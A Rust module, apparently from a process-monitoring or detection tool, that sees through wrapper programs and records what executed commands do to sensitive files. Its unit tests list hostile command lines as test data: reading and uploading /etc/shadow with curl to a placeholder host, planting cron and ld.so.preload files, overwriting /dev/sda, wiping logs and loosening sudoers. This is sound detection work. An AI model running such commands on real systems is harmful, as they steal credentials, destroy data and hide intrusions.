//! The program, its arguments, and what they do to files.

use std::borrow::Cow;

use super::own::Own;
use crate::event::Exec;
use crate::facts::{Facts, Field};
use crate::names::{absolute, base_name, plain_name};
use crate::words::Words;

/// Most arguments that are looked at: so many at the beginning, and some at the end, where copies go.
const MAX_ARGUMENTS: usize = 192;

/// See [`MAX_ARGUMENTS`].
const LAST_ARGUMENTS: usize = 64;

/// Longest argument that may be a path.
const MAX_PATH_BYTES: usize = 4_096;

/// Most programs in front of the one that is run.
const MAX_WRAPPERS: usize = 6;

/// Programs that run another, with those of their options that take a value.
const WRAPPERS: &[Wrapper] = &[
    ("sudo", &["-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-T", "-U", "--user", "--group"]),
    ("doas", &["-u", "-C"]),
    ("env", &["-u", "-C", "-S", "--unset", "--chdir"]),
    ("nohup", &[]),
    ("setsid", &[]),
    ("timeout", &["-k", "-s", "--signal", "--kill-after"]),
    ("nice", &["-n", "--adjustment"]),
    ("ionice", &["-c", "-n", "-p"]),
    ("stdbuf", &["-i", "-o", "-e"]),
    ("time", &["-f", "-o"]),
    ("xargs", &["-n", "-I", "-P", "-L", "-d", "-a", "-s", "-E", "-i"]),
    ("busybox", &[]),
    ("toybox", &[]),
    ("chroot", &["-u", "-g"]),
    ("taskset", &["-c", "-p"]),
    ("chrt", &["-p"]),
    ("runuser", &["-u", "-g", "-G"]),
    ("pkexec", &["--user"]),
    ("proxychains", &["-f"]),
    ("proxychains4", &["-f"]),
    ("torsocks", &[]),
    ("torify", &[]),
    ("firejail", &[]),
    ("setarch", &[]),
    ("exec", &["-a"]),
    ("command", &[]),
    ("builtin", &[]),
    ("eatmydata", &[]),
    ("faketime", &[]),
    ("unbuffer", &[]),
    ("parallel", &["-j"]),
    ("chpst", &["-u"]),
    ("systemd-inhibit", &[]),
    ("ld-linux-x86-64.so.2", &["--library-path", "--preload"]),
    ("ld.so", &["--library-path", "--preload"]),
    ("ld-linux.so.2", &["--library-path"]),
    ("ld-musl-x86_64.so.1", &[]),
];

/// What an exec calls itself: as resolved, as given, and as its first argument says.
fn calls<'a>(exec: &Exec<'a>) -> impl Iterator<Item = &'a str> {
    let own = exec.argv.first().copied().unwrap_or_default().trim_start_matches('-');
    // Mostly all three are one.
    let given = (exec.filename != exec.exe).then_some(exec.filename);
    let called = (base_name(own) != base_name(exec.filename)).then_some(own);
    [exec.exe].into_iter().chain(given).chain(called)
}

/// Its names, and their classes.
pub(super) fn names<'a>(words: &'a Words, exec: &Exec<'a>, facts: &mut Facts<'a>) {
    calls(exec).for_each(|path| tool(words, path, facts));
}

/// What it is if it runs another program.
pub(super) fn wrapper(exec: &Exec<'_>) -> Option<&'static Wrapper> {
    calls(exec).find_map(wrapper_named)
}

/// Arguments and files of an exec.
pub(super) fn arguments<'a>(words: &'a Words, exec: &Exec<'a>, own: &Own, facts: &mut Facts<'a>) {
    let bounded = bounded(&exec.argv);
    let mut arguments = bounded.get(1..).unwrap_or_default();
    // Of a script, the arguments begin behind its own path.
    if let Some((first, rest)) = arguments.split_first()
        && *first == exec.filename
    {
        arguments = rest;
    }
    let mut wrapper = own.wrapper;
    for _ in 0..MAX_WRAPPERS {
        let Some((program, rest)) = wrapper.and_then(|wrapper| inner(wrapper, arguments)).and_then(<[_]>::split_first)
        else {
            break;
        };
        tool(words, program, facts);
        arguments = rest;
        wrapper = wrapper_named(program);
    }
    arguments.iter().for_each(|argument| split_argument(argument, facts));
    let habit = Habit::of(facts.get(Field::Tool).iter().map(Cow::as_ref));
    Effects { words, cwd: exec.cwd, facts }.of(&habit, arguments);
    run_by_option(words, arguments, facts);
}

fn tool<'a>(words: &'a Words, path: &'a str, facts: &mut Facts<'a>) {
    let name = base_name(path);
    if name.is_empty() {
        return;
    }
    facts.add(Field::Tool, name);
    facts.add(Field::Tool, plain_name(name));
    words.program(name, |class| facts.add(Field::Class, class));
}

/// Both ends of an argument vector that is longer than what is looked at.
fn bounded<'s, 'a>(argv: &'s [&'a str]) -> Cow<'s, [&'a str]> {
    if argv.len() <= MAX_ARGUMENTS + LAST_ARGUMENTS {
        return Cow::Borrowed(argv);
    }
    let (head, tail) = (&argv[..MAX_ARGUMENTS], &argv[argv.len() - LAST_ARGUMENTS..]);
    Cow::Owned(head.iter().chain(tail).copied().collect())
}

/// A program's name, and its options that take a value.
pub(super) type Wrapper = (&'static str, &'static [&'static str]);

fn wrapper_named(path: &str) -> Option<&'static Wrapper> {
    let name = base_name(path);
    WRAPPERS.iter().find(|(own, _)| *own == name)
}

/// The arguments of a wrapper from the inner program on.
fn inner<'s, 'a>(wrapper: &Wrapper, arguments: &'s [&'a str]) -> Option<&'s [&'a str]> {
    let (name, valued) = wrapper;
    let mut at = 0;
    // These take something before the program.
    let mut operands = usize::from(matches!(*name, "timeout" | "chroot" | "taskset" | "chrt" | "setarch" | "faketime"));
    while let Some(argument) = arguments.get(at) {
        if valued.contains(argument) {
            at += 2;
        } else if argument.starts_with('-') || is_assignment(argument) {
            at += 1;
        } else if operands > 0 {
            operands -= 1;
            at += 1;
        } else {
            return arguments.get(at..);
        }
    }
    None
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    })
}

/// `find -exec`, `tar --checkpoint-action=exec`, `ssh -o ProxyCommand=` and the like run something too.
fn run_by_option<'a>(words: &'a Words, arguments: &[&'a str], facts: &mut Facts<'a>) {
    for pair in arguments.windows(2) {
        if matches!(pair[0], "-exec" | "-execdir" | "-ok" | "-okdir" | "--to-command" | "--use-compress-program") {
            runs(words, pair[1], facts);
        }
    }
    for argument in arguments.iter().filter(|argument| argument.starts_with(['-', 'P'])) {
        let command = [
            "--checkpoint-action=exec=",
            "--to-command=",
            "ProxyCommand=",
            "-oProxyCommand=",
            "--use-compress-program=",
        ]
        .iter()
        .find_map(|prefix| argument.strip_prefix(prefix));
        if let Some(program) = command.and_then(|command| command.split_whitespace().next()) {
            runs(words, program, facts);
        }
    }
}

/// A program that is run from within.
pub(super) fn runs<'a>(words: &'a Words, program: &str, facts: &mut Facts<'a>) {
    let name = base_name(program.trim_start_matches('-'));
    let plain = plain_name(name).to_owned();
    facts.add(Field::Runs, name.to_owned());
    facts.add(Field::Runs, plain);
    words.program(name, |class| facts.add(Field::RunsClass, class));
}

fn split_argument<'a>(argument: &'a str, facts: &mut Facts<'a>) {
    facts.add(Field::Arg, argument);
    if let Some(long) = argument.strip_prefix("--") {
        if let Some((name, value)) = long.split_once('=') {
            facts.add(Field::Arg, &argument[..name.len() + 2]);
            facts.add(Field::Arg, value);
        }
    } else if let Some(short) = argument.strip_prefix('-')
        && (2..=8).contains(&short.len())
        && short.bytes().all(|byte| byte.is_ascii_alphabetic())
    {
        short.bytes().for_each(|letter| facts.add(Field::Arg, option(letter)));
    }
}

/// A letter as an option.
fn option(letter: u8) -> &'static str {
    const ALL: &str = "-a-b-c-d-e-f-g-h-i-j-k-l-m-n-o-p-q-r-s-t-u-v-w-x-y-z\
        -A-B-C-D-E-F-G-H-I-J-K-L-M-N-O-P-Q-R-S-T-U-V-W-X-Y-Z";
    let at = match letter {
        b'a'..=b'z' => letter - b'a',
        _ => letter.wrapping_sub(b'A').wrapping_add(26),
    };
    let at = usize::from(at) * 2;
    ALL.get(at..at + 2).unwrap_or_default()
}

/// What becomes of a path.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Use {
    Read,
    Write,
    Change,
    Remove,
}

impl Use {
    fn field(self) -> Field {
        match self {
            Self::Read => Field::Read,
            Self::Write => Field::Write,
            Self::Change => Field::Change,
            Self::Remove => Field::Remove,
        }
    }
}

/// Tells what a command does to which kinds of paths.
pub(super) struct Effects<'f, 'a> {
    pub(super) words: &'a Words,
    pub(super) cwd: &'f str,
    pub(super) facts: &'f mut Facts<'a>,
}

/// What a program by its name does with the files it is given.
#[derive(Debug, Default)]
pub(super) struct Habit {
    /// Its arguments are no files.
    talks: bool,
    /// With `-i`, in place.
    edits_in_place: bool,
    /// Given `/dev/null`, it empties the other file.
    discards: bool,
    copies: bool,
    moves: bool,
    writes: bool,
    /// It shows before it writes.
    editor: bool,
    removes: bool,
    changes: bool,
    wget: bool,
    /// `-o` is an option of its own sort.
    other_output: bool,
}

impl Habit {
    /// Of a program that goes by these names.
    pub(super) fn of<'n>(names: impl Iterator<Item = &'n str>) -> Self {
        let mut habit = Self::default();
        for name in names {
            match name {
                "echo" | "printf" | "test" | "[" | "expr" | "basename" | "dirname" | "pgrep" | "logger" => {
                    habit.talks = true;
                }
                "sed" | "perl" | "ruby" => habit.edits_in_place = true,
                "cp" | "ln" => (habit.copies, habit.discards) = (true, true),
                "mv" => (habit.copies, habit.discards, habit.moves) = (true, true, true),
                "dd" | "cat" => habit.discards = true,
                "tee" => (habit.writes, habit.discards) = (true, true),
                "install" | "rsync" | "scp" | "link" => habit.copies = true,
                "sponge" => habit.writes = true,
                "vi" | "vim" | "nvim" | "nano" | "pico" | "ed" | "ex" | "emacs" | "joe" | "mcedit" | "micro" => {
                    (habit.writes, habit.editor) = (true, true);
                }
                "rm" | "shred" | "unlink" | "srm" | "wipe" | "scrub" | "rmdir" | "truncate" | "wipefs"
                | "blkdiscard" => habit.removes = true,
                "chmod" | "chown" | "chgrp" | "chattr" | "touch" | "setfacl" | "setfattr" | "setcap" | "chcon"
                | "mkfs" | "mkdir" => habit.changes = true,
                "wget" => habit.wget = true,
                "grep" | "find" | "mount" | "ps" | "ssh" | "stdbuf" | "set" | "useradd" => habit.other_output = true,
                _ => {}
            }
        }
        habit
    }

    /// `curl -o FILE`, `wget -O FILE`, `gcc -o FILE`, `--output=FILE`.
    fn is_output(&self, before: &str, argument: &str) -> bool {
        let attached = argument.starts_with('-')
            && ["-o/", "--output=", "--output-document=", "--outfile="]
                .iter()
                .any(|prefix| argument.starts_with(prefix));
        attached
            || before.starts_with('-')
                && (!self.other_output
                    && matches!(before, "-o" | "--output" | "--output-document" | "--outfile" | "-out" | "--out")
                    || self.wget && matches!(before, "-O" | "-P"))
    }
}

impl Effects<'_, '_> {
    /// Looks at all arguments of a program with this habit.
    pub(super) fn of(&mut self, habit: &Habit, arguments: &[&str]) {
        if habit.talks {
            return;
        }
        let operands = arguments.iter().filter(|argument| !argument.starts_with('-')).count();
        let in_place = habit.edits_in_place && arguments.iter().any(|word| is_in_place(word));
        let discards = habit.discards && arguments.iter().any(|word| word.ends_with("/dev/null"));
        let target_first =
            habit.copies && arguments.iter().any(|word| *word == "-t" || word.starts_with("--target-directory"));
        let (mut seen, mut before) = (0, "");
        for argument in arguments {
            let option = argument.starts_with('-');
            seen += usize::from(!option);
            let last = seen == operands && !option && operands > 1 && !target_first;
            let what = if habit.writes || in_place && seen > 1 {
                Use::Write
            } else if habit.removes {
                Use::Remove
            } else if habit.changes {
                Use::Change
            } else if argument.starts_with("of=")
                || habit.copies && (last || before == "-t")
                || habit.is_output(before, argument)
            {
                Use::Write
            } else {
                Use::Read
            };
            self.argument(argument, what);
            if what == Use::Write && habit.editor {
                self.argument(argument, Use::Read);
            }
            if what == Use::Write && discards || habit.moves && what == Use::Read {
                self.argument(argument, Use::Remove);
            }
            before = argument;
        }
    }

    fn argument(&mut self, argument: &str, what: Use) {
        if argument.is_empty() || argument.len() > MAX_PATH_BYTES {
            return;
        }
        if let Some(path) = path_in(argument) {
            self.path(path, what);
            // `host-path:container-path`, `user@host:path`.
            if let Some((left, right)) = path.split_once(':')
                && !right.starts_with("//")
            {
                self.path(left, what);
                if right.starts_with('/') {
                    self.path(right, what);
                }
            }
        } else if !argument.starts_with('-') && !argument.contains(char::is_whitespace) && argument.len() < 256 {
            self.path(argument, what);
        }
    }

    /// A path that is read, written and so on.
    fn path(&mut self, path: &str, what: Use) {
        let path = absolute(path, self.cwd);
        self.words.path(&path, |class| {
            self.facts.add(Field::Path, class);
            self.facts.add(what.field(), class);
        });
    }

    /// A file the shell opens for writing.
    pub(super) fn written(&mut self, path: &str, truncated: bool) {
        self.path(path, Use::Write);
        if truncated {
            self.path(path, Use::Remove);
        }
    }

    /// A file the shell opens for reading.
    pub(super) fn read(&mut self, path: &str) {
        self.path(path, Use::Read);
    }
}

fn is_in_place(word: &str) -> bool {
    word == "--in-place"
        || word.starts_with("--in-place=")
        || word.starts_with('-') && !word.starts_with("--") && word.len() < 8 && word.contains('i')
}

/// Where a path begins in an argument, if one does.
fn path_in(argument: &str) -> Option<&str> {
    if argument.starts_with(['/', '~', '$']) {
        return Some(argument);
    }
    let at = argument.find('/')?;
    if argument[at..].starts_with("//") {
        return argument.strip_prefix("file://");
    }
    let head = &argument[..at];
    match head.rfind(['=', '@', ',', '<', '>', '"', '\'', '(', ':', ' ']) {
        Some(cut) => Some(&argument[cut + 1..]),
        // `-o/tmp/x`: an option with its value.
        None if head.starts_with('-') => Some(&argument[at..]),
        None => Some(argument),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts_of<'a>(words: &'a Words, argv: &[&'a str]) -> Facts<'a> {
        let exec = Exec { exe: argv[0], filename: argv[0], argv: argv.to_vec(), cwd: "/home/ann", ..Exec::default() };
        let mut facts = Facts::default();
        names(words, &exec, &mut facts);
        arguments(words, &exec, &Own::of(words, &exec), &mut facts);
        facts
    }

    #[test]
    fn wrappers_are_looked_through() {
        let words = Words::parse(crate::pack::WORDS).unwrap();
        for argv in [
            &["sudo", "-u", "root", "cat", "/etc/shadow"][..],
            &["env", "A=1", "nice", "-n", "5", "cat", "/etc/shadow"],
            &["timeout", "-k", "5", "10", "sudo", "-n", "cat", "/etc/shadow"],
            &["busybox", "cat", "/etc/shadow"],
        ] {
            let facts = facts_of(&words, argv);
            assert!(facts.has(Field::Tool, "cat") && facts.has(Field::Read, "shadow"), "{argv:?}: {facts:?}");
            assert!(facts.has(Field::Arg, "/etc/shadow") && !facts.has(Field::Arg, "cat"), "{argv:?}");
        }
        assert!(facts_of(&words, &["find", ".", "-exec", "/bin/sh", ";"]).has(Field::RunsClass, "shell"));
    }

    #[test]
    fn what_becomes_of_files() {
        let words = Words::parse(crate::pack::WORDS).unwrap();
        for (argv, field, class) in [
            (&["cp", "/etc/shadow", "/tmp/x"][..], Field::Read, "shadow"),
            (&["cp", "/tmp/x", "/etc/shadow"], Field::Write, "shadow"),
            (&["tee", "-a", "/etc/ld.so.preload"], Field::Write, "preload"),
            (&["sed", "-i", "s/x/y/", "/etc/ssh/sshd_config"], Field::Write, "sshd_config"),
            (&["sed", "s/x/y/", "/etc/ssh/sshd_config"], Field::Read, "sshd_config"),
            (&["rm", "-rf", "/var/log/*"], Field::Remove, "log_of_record"),
            (&["cp", "/dev/null", "/var/log/auth.log"], Field::Remove, "log_of_record"),
            (&["dd", "if=/dev/zero", "of=/dev/sda"], Field::Write, "disk"),
            (&["curl", "-o", "/etc/cron.d/x", "http://h/x"], Field::Write, "cron"),
            (&["chmod", "777", "/etc/sudoers"], Field::Change, "sudoers"),
            (&["docker", "run", "-v", "/var/run/docker.sock:/x", "i"], Field::Read, "socket_of_runtime"),
            (&["curl", "-F", "file=@/etc/shadow", "http://h"], Field::Read, "shadow"),
        ] {
            let facts = facts_of(&words, argv);
            assert!(facts.has(field, class), "{argv:?}: {facts:?}");
        }
    }

    #[test]
    fn arguments_in_every_form() {
        assert_eq!([b'a', b'z', b'A', b'Z'].map(option), ["-a", "-z", "-A", "-Z"]);
        let words = Words::parse(crate::pack::WORDS).unwrap();
        let facts = facts_of(&words, &["x", "-xzf", "--out=y", "--long", "z"]);
        for argument in ["-xzf", "-x", "-z", "-f", "--out", "y", "--long", "z"] {
            assert!(facts.has(Field::Arg, argument), "{argument}");
        }
    }
}
